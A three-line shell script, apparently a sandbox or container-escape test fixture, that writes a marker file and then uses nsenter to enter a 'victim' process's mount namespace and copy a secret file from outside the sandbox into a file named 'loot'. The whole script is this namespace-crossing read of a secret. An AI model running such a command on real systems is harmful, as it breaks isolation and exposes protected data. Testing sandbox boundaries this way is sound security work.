#!/bin/sh
: > "$ARENA/ws/ran"
nsenter --target "$(cat victim)" --mount cat "$ARENA/outside/secret" > loot
